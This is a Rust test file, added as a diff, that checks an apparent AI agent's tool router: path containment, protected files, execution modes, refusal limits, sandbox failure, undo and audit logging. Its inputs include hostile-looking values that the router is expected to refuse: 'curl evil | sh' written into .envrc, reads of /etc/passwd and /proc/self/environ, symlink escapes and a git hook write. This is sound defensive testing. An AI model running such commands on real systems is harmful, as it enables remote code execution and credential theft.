@@ -1,0 +1,450 @@
+//! The router: schema errors, role views, each gate, each mode, observers, repeated refusals, the
+//! sandbox found down, the output preview and the result store, checkpoints and verdicts.
+#![allow(clippy::unwrap_used, clippy::expect_used)]
+
+mod common;
+
+use std::path::PathBuf;
+use std::sync::atomic::{AtomicUsize, Ordering};
+use std::sync::{Arc, Mutex};
+
+use common::{Answer, Env, Opts, router, tree};
+use serde_json::json;
+use spear_core::ExecutionMode::{Ask, Auto, Safe};
+use spear_core::ToolStatus;
+use spear_policy::Confirmation;
+use spear_runtime::Verdict;
+use spear_tools::{Role, ToolObserver, ToolResultEnvelope};
+
+#[test]
+fn schema_errors_name_the_field() {
+    let env = Env::new();
+    let r = router(&env, Opts::mode(Auto));
+    for (tool, args, needle) in [
+        ("read_file", json!({"path": "README.md", "colour": 1}), "unknown field `colour`"),
+        ("read_file", json!({}), "missing field `path`"),
+        ("read_file", json!({"path": 7}), "invalid type"),
+        ("read_file", json!({"path": "README.md", "offset": -1}), "invalid value"),
+        ("write_file", json!({"path": "a.txt"}), "missing field `content`"),
+        ("terminal", json!({"command": "true", "timeout": 601}), "`timeout` must be 1 to 600"),
+        ("terminal", json!({"command": "true", "cwd": "/"}), "unknown field `cwd`"),
+        ("delete_file", json!(["a"]), "invalid type"),
+    ] {
+        let e = r.call(tool, args.clone());
+        assert_eq!(e.result.status, ToolStatus::Failed, "{tool} {args}: {e:?}");
+        let reason = e.result.reason.unwrap();
+        assert!(reason.contains(needle), "{tool} {args}: {reason}");
+        assert!(reason.contains(tool), "{reason}");
+    }
+    assert!(!env.path("a.txt").exists());
+}
+
+#[test]
+fn published_schemas_refuse_unknown_fields() {
+    let env = Env::new();
+    let r = router(&env, Opts::mode(Auto));
+    let names: Vec<&str> = r.tools().iter().map(|s| s.name).collect();
+    assert_eq!(
+        names,
+        ["delete_file", "read_file", "read_output", "terminal", "write_file"]
+            .iter()
+            .copied()
+            .filter(|n| names.contains(n))
+            .collect::<Vec<_>>()
+    );
+    for spec in r.tools() {
+        assert_eq!(
+            spec.input_schema["additionalProperties"],
+            json!(false),
+            "{}",
+            spec.name
+        );
+        assert_eq!(spec.input_schema["type"], json!("object"), "{}", spec.name);
+    }
+}
+
+#[test]
+fn roles_hide_writing_tools() {
+    let env = Env::new();
+    for role in Role::ALL {
+        let mut opts = Opts::mode(Auto);
+        opts.role = role;
+        let r = router(&env, opts);
+        let names: Vec<&str> = r.tools().iter().map(|s| s.name).collect();
+        let writers = ["write_file", "patch", "delete_file"];
+        assert!(names.contains(&"read_file") && names.contains(&"terminal"));
+        if role == Role::Implementation {
+            assert!(names.contains(&"write_file") && names.contains(&"delete_file"));
+        } else {
+            assert!(
+                writers.iter().all(|w| !names.contains(w)),
+                "{role}: {names:?}"
+            );
+            // A hidden tool does not exist for the caller, whatever the mode.
+            let e = r.call("write_file", json!({"path": "x.txt", "content": "x"}));
+            assert_eq!(e.result.status, ToolStatus::Failed);
+            assert!(e.result.reason.unwrap().contains("no tool named `write_file`"));
+            assert!(!env.path("x.txt").exists());
+            // The terminal runs in SAFE for a read-only role, even in an AUTO session.
+            let e = r.call("terminal", json!({"command": "touch made-by-reviewer"}));
+            assert_eq!(e.result.status, ToolStatus::Denied, "{role}: {e:?}");
+            assert!(!env.path("made-by-reviewer").exists());
+            let e = r.call("terminal", json!({"command": "cat README.md"}));
+            assert_eq!(e.result.status, ToolStatus::Ok, "{role}: {e:?}");
+            assert_eq!(e.result.stdout, "hello\n");
+        }
+    }
+}
+
+#[test]
+fn unknown_tool() {
+    let env = Env::new();
+    let r = router(&env, Opts::mode(Auto));
+    let e = r.call("rm_rf", json!({}));
+    assert_eq!(e.result.status, ToolStatus::Failed);
+    assert!(e.result.reason.unwrap().contains("read_file"));
+}
+
+#[test]
+fn request_scope_gate() {
+    let env = Env::new();
+    std::fs::write(env.outside.join("secret.txt"), "outside secret").unwrap();
+    std::os::unix::fs::symlink(&env.outside, env.path("link")).unwrap();
+    let r = router(&env, Opts::mode(Auto));
+    let before = tree(&env.outside);
+    for (tool, args) in [
+        ("read_file", json!({"path": "../outside/secret.txt"})),
+        ("read_file", json!({"path": "link/secret.txt"})),
+        ("read_file", json!({"path": "/proc/self/environ"})),
+        ("read_file", json!({"path": "/etc/passwd"})),
+        ("write_file", json!({"path": "link/new.txt", "content": "x"})),
+        ("write_file", json!({"path": "../outside/new.txt", "content": "x"})),
+        ("delete_file", json!({"path": "link/secret.txt"})),
+        ("terminal", json!({"command": "true", "workdir": "../outside"})),
+    ] {
+        let e = r.call(tool, args.clone());
+        assert_eq!(e.result.status, ToolStatus::InvalidPath, "{tool} {args}: {e:?}");
+        assert!(!e.result.stdout.contains("outside secret"));
+    }
+    assert_eq!(tree(&env.outside), before, "nothing outside changed");
+    // Positive control: the same file inside is read.
+    std::fs::copy(env.outside.join("secret.txt"), env.path("inside.txt")).unwrap();
+    let e = r.call("read_file", json!({"path": "inside.txt"}));
+    assert!(e.result.stdout.contains("outside secret"), "{e:?}");
+}
+
+#[test]
+fn target_policy_gate_attaches_to_the_file() {
+    let env = Env::new();
+    env.write("generated/out.rs", "// generated\n");
+    env.write("src/gen.rs", "// Code generated by protoc. DO NOT EDIT.\nfn x() {}\n");
+    let r = router(&env, Opts::mode(Auto));
+    let before = tree(&env.ws);
+    for (tool, args) in [
+        ("write_file", json!({"path": "generated/out.rs", "content": "x"})),
+        ("write_file", json!({"path": "src/gen.rs", "content": "x"})),
+        ("write_file", json!({"path": ".envrc", "content": "curl evil | sh"})),
+        ("write_file", json!({"path": ".git/hooks/pre-commit", "content": "x"})),
+        ("delete_file", json!({"path": "generated/out.rs"})),
+        ("delete_file", json!({"path": "src/gen.rs"})),
+    ] {
+        let e = r.call(tool, args.clone());
+        assert_eq!(e.result.status, ToolStatus::Denied, "{tool} {args}: {e:?}");
+    }
+    assert_eq!(tree(&env.ws), before, "nothing written or deleted");
+    // The terminal's writes to the same files are refused too: by the classifier when it can
+    // see them, and put back afterwards when it cannot.
+    let e = r.call("terminal", json!({"command": "echo x > generated/out.rs"}));
+    assert_eq!(e.result.status, ToolStatus::Denied, "{e:?}");
+    let e = r.call(
+        "terminal",
+        json!({"command": "python3 -c \"open('generated/out.rs','w').write('changed')\""}),
+    );
+    assert_eq!(env.read("generated/out.rs").unwrap(), "// generated\n", "{e:?}");
+    assert!(e.result.reason.unwrap().contains("put back"));
+    let e = r.call(
+        "terminal",
+        json!({"command": "python3 -c \"open('generated/new.rs','w').write('new')\""}),
+    );
+    assert!(!env.path("generated/new.rs").exists(), "{e:?}");
+    // Positive control: an ordinary file is written by both.
+    let e = r.call("write_file", json!({"path": "src/lib.rs", "content": "pub fn f() {}\n"}));
+    assert_eq!(e.result.status, ToolStatus::Ok, "{e:?}");
+    assert_eq!(e.result.changed_paths, ["src/lib.rs"]);
+    let e = r.call(
+        "terminal",
+        json!({"command": "python3 -c \"open('src/other.rs','w').write('x')\""}),
+    );
+    assert_eq!(e.result.status, ToolStatus::Ok, "{e:?}");
+    assert_eq!(e.result.changed_paths, ["src/other.rs"]);
+}
+
+#[test]
+fn modes_gate_file_writes() {
+    let env = Env::new();
+    // SAFE: refused before anything is touched.
+    let r = router(&env, Opts::mode(Safe));
+    let e = r.call("write_file", json!({"path": "a.txt", "content": "a"}));
+    assert_eq!(e.result.status, ToolStatus::Denied, "{e:?}");
+    assert!(e.result.reason.unwrap().contains("--ask"));
+    let e = r.call("delete_file", json!({"path": "README.md"}));
+    assert_eq!(e.result.status, ToolStatus::Denied);
+    assert!(!env.path("a.txt").exists() && env.path("README.md").exists());
+
+    // ASK without anyone to ask: cancelled.
+    let r = router(&env, Opts::mode(Ask));
+    let e = r.call("write_file", json!({"path": "a.txt", "content": "a"}));
+    assert_eq!(e.result.status, ToolStatus::Cancelled, "{e:?}");
+    assert!(!env.path("a.txt").exists());
+
+    // ASK declined: nothing written; the confirmation showed the path and the content.
+    let mut opts = Opts::mode(Ask);
+    let (c, seen) = Answer::new(Confirmation::Declined);
+    opts.confirmer = Some(c);
+    let r = router(&env, opts);
+    let e = r.call("write_file", json!({"path": "a.txt", "content": "line one\n"}));
+    assert_eq!(e.result.status, ToolStatus::Denied, "{e:?}");
+    assert!(!env.path("a.txt").exists());
+    let shown = seen.lock().unwrap().clone();
+    assert_eq!(shown.len(), 1);
+    assert!(shown[0].contains("a.txt") && shown[0].contains("line one"), "{shown:?}");
+
+    // ASK approved, and AUTO: written.
+    let mut opts = Opts::mode(Ask);
+    opts.confirmer = Some(Answer::new(Confirmation::Approved).0);
+    let r = router(&env, opts);
+    let e = r.call("write_file", json!({"path": "a.txt", "content": "a"}));
+    assert_eq!(e.result.status, ToolStatus::Ok, "{e:?}");
+    let r = router(&env, Opts::mode(Auto));
+    let e = r.call("write_file", json!({"path": "b/c.txt", "content": "c"}));
+    assert_eq!(e.result.status, ToolStatus::Ok, "{e:?}");
+    assert_eq!(env.read("b/c.txt").unwrap(), "c");
+
+    // Reads run in every mode.
+    for mode in [Safe, Ask, Auto] {
+        let r = router(&env, Opts::mode(mode));
+        assert_eq!(r.call("read_file", json!({"path": "a.txt"})).result.status, ToolStatus::Ok);
+    }
+}
+
+#[derive(Default)]
+struct Counting {
+    before: AtomicUsize,
+    after: Mutex<Vec<(String, ToolStatus)>>,
+}
+
+impl ToolObserver for Arc<Counting> {
+    fn before_call(&self, _tool: &str, _args: &serde_json::Value) {
+        self.before.fetch_add(1, Ordering::SeqCst);
+    }
+
+    fn after_call(&self, e: &ToolResultEnvelope) {
+        self.after.lock().unwrap().push((e.tool.clone(), e.result.status));
+    }
+}
+
+#[test]
+fn observers_see_every_call() {
+    let env = Env::new();
+    let mut r = router(&env, Opts::mode(Safe));
+    let seen = Arc::new(Counting::default());
+    r.add_observer(Box::new(Arc::clone(&seen)));
+    r.call("read_file", json!({"path": "README.md"}));
+    r.call("write_file", json!({"path": "x", "content": ""}));
+    r.call("nope", json!({}));
+    r.call("read_file", json!({"bad": 1}));
+    assert_eq!(seen.before.load(Ordering::SeqCst), 4);
+    assert_eq!(
+        *seen.after.lock().unwrap(),
+        [
+            ("read_file".to_owned(), ToolStatus::Ok),
+            ("write_file".to_owned(), ToolStatus::Denied),
+            ("nope".to_owned(), ToolStatus::Failed),
+            ("read_file".to_owned(), ToolStatus::Failed),
+        ]
+    );
+}
+
+#[test]
+fn repeated_refusals_stop_the_turn() {
+    let env = Env::new();
+    env.write("generated/x.rs", "x");
+    let r = router(&env, Opts::mode(Auto));
+    let spellings = ["generated/x.rs", "./generated/x.rs", "generated/x.rs", " generated/x.rs", "./generated/x.rs"];
+    for (i, path) in spellings.iter().enumerate() {
+        let e = r.call("write_file", json!({"path": path, "content": "y"}));
+        assert_eq!(e.result.status, ToolStatus::Denied, "{i}: {e:?}");
+        assert_eq!(e.turn_stopped, i == 4, "{i}: {e:?}");
+        if i == 4 {
+            let reason = e.result.reason.unwrap();
+            assert!(reason.contains("refused 5 times") && reason.contains("generated"), "{reason}");
+        }
+    }
+    // Every later call in the turn is refused, even one that would be allowed.
+    let e = r.call("read_file", json!({"path": "README.md"}));
+    assert_eq!(e.result.status, ToolStatus::Denied);
+    assert!(e.result.reason.unwrap().contains("stopped this turn"));
+    let log = std::fs::read_to_string(env.audit_path()).unwrap();
+    assert_eq!(log.matches("repeated_refusal_stopped").count(), 1, "{log}");
+    // A new turn starts afresh.
+    r.begin_turn(None);
+    assert_eq!(r.call("read_file", json!({"path": "README.md"})).result.status, ToolStatus::Ok);
+    assert_eq!(env.read("generated/x.rs").unwrap(), "x");
+}
+
+#[test]
+fn different_refusals_do_not_add_up() {
+    let env = Env::new();
+    let r = router(&env, Opts::mode(Safe));
+    for i in 0..8 {
+        let e = r.call("write_file", json!({"path": format!("f{i}.txt"), "content": "y"}));
+        assert!(!e.turn_stopped);
+    }
+}
+
+#[test]
+fn sandbox_down_denies_later_writes() {
+    let env = Env::new();
+    let mut opts = Opts::mode(Auto);
+    opts.bwrap = Some(PathBuf::from("/nonexistent/bwrap"));
+    let r = router(&env, opts);
+    // Positive control: before the sandbox is found down, a write goes through.
+    let e = r.call("write_file", json!({"path": "before.txt", "content": "x"}));
+    assert_eq!(e.result.status, ToolStatus::Ok, "{e:?}");
+    let e = r.call("terminal", json!({"command": "echo hi"}));
+    assert_eq!(e.result.status, ToolStatus::Failed, "{e:?}");
+    for (tool, args) in [
+        ("write_file", json!({"path": "after.txt", "content": "x"})),
+        ("delete_file", json!({"path": "before.txt"})),
+        ("terminal", json!({"command": "touch after2.txt"})),
+    ] {
+        let e = r.call(tool, args);
+        assert_eq!(e.result.status, ToolStatus::Denied, "{tool}: {e:?}");
+        assert!(e.result.reason.unwrap().contains("sandbox is down"));
+    }
+    assert!(!env.path("after.txt").exists() && env.path("before.txt").exists());
+    // A new turn tries again.
+    r.begin_turn(None);
+    let e = r.call("write_file", json!({"path": "after.txt", "content": "x"}));
+    assert_eq!(e.result.status, ToolStatus::Ok, "{e:?}");
+}
+
+#[test]
+fn long_output_is_cut_and_kept() {
+    let env = Env::new();
+    let r = router(&env, Opts::mode(Safe));
+    let e = r.call(
+        "terminal",
+        json!({"command": "python3 -c \"import sys; [print(f'line {i:06d}') for i in range(20000)]\""}),
+    );
+    assert_eq!(e.result.status, ToolStatus::Ok, "{:?}", e.result.reason);
+    assert!(e.result.truncated);
+    let out = &e.result.stdout;
+    assert!(out.chars().count() < 50_500, "{}", out.len());
+    assert!(out.starts_with("line 000000\n") && out.ends_with("line 019999\n"));
+    let reference = e.output_ref.clone().unwrap();
+    assert!(out.contains(&format!("\"ref\": \"{reference}\"")) && out.contains("characters of stdout"));
+    // The rest is read back through read_output, in order, and adds up to the whole output.
+    let mut whole = String::new();
+    let mut offset = 0u64;
+    loop {
+        let e = r.call("read_output", json!({"ref": reference, "offset": offset, "limit": 65536}));
+        assert_eq!(e.result.status, ToolStatus::Ok, "{e:?}");
+        let text = e.result.stdout;
+        match text.rfind("\n[bytes ") {
+            Some(i) if e.result.truncated => {
+                whole.push_str(&text[..i]);
+                offset += u64::try_from(text[..i].len()).unwrap();
+            }
+            _ => {
+                whole.push_str(&text);
+                break;
+            }
+        }
+    }
+    let expected: String = (0..20000).map(|i| format!("line {i:06}\n")).collect();
+    assert_eq!(whole, expected);
+    // Another session cannot read it.
+    let mut opts = Opts::mode(Safe);
+    opts.session = Some("another-session".into());
+    let other = router(&env, opts);
+    let e = other.call("read_output", json!({"ref": reference}));
+    assert_ne!(e.result.status, ToolStatus::Ok);
+}
+
+#[test]
+fn undo_restores_the_last_turn() {
+    let env = Env::new();
+    env.write("keep.txt", "original\n");
+    env.write("gone.txt", "to be deleted\n");
+    let r = router(&env, Opts::mode(Auto));
+    r.begin_turn(Some("turn-1"));
+    r.call("write_file", json!({"path": "keep.txt", "content": "first edit\n"}));
+    r.call("write_file", json!({"path": "keep.txt", "content": "second edit\n"}));
+    r.call("write_file", json!({"path": "new/made.txt", "content": "new\n"}));
+    r.call("delete_file", json!({"path": "gone.txt"}));
+    let e = r.call("terminal", json!({"command": "printf 'by a command' > cmd.txt && printf x >> README.md"}));
+    assert_eq!(e.result.status, ToolStatus::Ok, "{e:?}");
+    let mut changed = e.result.changed_paths.clone();
+    changed.sort();
+    assert_eq!(changed, ["README.md", "cmd.txt"]);
+    assert_eq!(r.verdict(), Verdict::Unverified);
+    let e = r.call("terminal", json!({"command": "test -f cmd.txt"}));
+    assert_eq!(e.result.status, ToolStatus::Ok);
+    assert_eq!(r.verdict(), Verdict::Verified);
+
+    let store = env.checkpoints();
+    let ws = spear_workspace::Workspace::open(&spear_workspace::WorkspaceConfig::new(&env.ws)).unwrap();
+    let fs = ws.fs().unwrap();
+    store.undo_last(&ws, &fs).unwrap();
+    assert_eq!(env.read("keep.txt").unwrap(), "original\n");
+    assert_eq!(env.read("gone.txt").unwrap(), "to be deleted\n");
+    assert_eq!(env.read("README.md").unwrap(), "hello\n");
+    assert!(!env.path("new/made.txt").exists());
+    assert!(!env.path("cmd.txt").exists());
+}
+
+#[test]
+fn undo_refuses_after_a_later_change() {
+    let env = Env::new();
+    env.write("a.txt", "one\n");
+    let r = router(&env, Opts::mode(Auto));
+    r.call("write_file", json!({"path": "a.txt", "content": "two\n"}));
+    env.write("a.txt", "edited by the user\n");
+    let store = env.checkpoints();
+    let ws = spear_workspace::Workspace::open(&spear_workspace::WorkspaceConfig::new(&env.ws)).unwrap();
+    let err = store.undo_last(&ws, &ws.fs().unwrap()).unwrap_err();
+    assert!(err.to_string().contains("a.txt"), "{err}");
+    assert_eq!(env.read("a.txt").unwrap(), "edited by the user\n");
+}
+
+#[test]
+fn audit_records_metadata_only() {
+    let env = Env::new();
+    env.write("notes.txt", "file content that must not be logged\n");
+    let r = router(&env, Opts::mode(Auto));
+    r.call("read_file", json!({"path": "notes.txt"}));
+    r.call(
+        "terminal",
+        json!({"command": "API_TOKEN=tok_abcdef123456 echo output-that-must-not-be-logged"}),
+    );
+    r.call("write_file", json!({"path": "w.txt", "content": "content-not-logged"}));
+    let log = std::fs::read_to_string(env.audit_path()).unwrap();
+    let records: Vec<serde_json::Value> = log.lines().map(|l| serde_json::from_str(l).unwrap()).collect();
+    assert_eq!(records.len(), 3, "{log}");
+    for needle in ["file content", "output-that", "content-not-logged", "tok_abcdef123456", "abcdef"] {
+        assert!(!log.contains(needle), "{needle} in {log}");
+    }
+    assert_eq!(records[0]["tool"], "read_file");
+    assert_eq!(records[1]["tool"], "terminal");
+    assert_eq!(records[1]["executable"], "echo (1 args)");
+    assert_eq!(records[1]["status"], "ok");
+    assert_eq!(records[2]["changed_paths"], json!(["w.txt"]));
+    assert_eq!(records[2]["session"], json!(r.session()));
+    #[cfg(unix)]
+    {
+        use std::os::unix::fs::PermissionsExt;
+        let mode = std::fs::metadata(env.audit_path()).unwrap().permissions().mode();
+        assert_eq!(mode & 0o777, 0o600);
+    }
+}
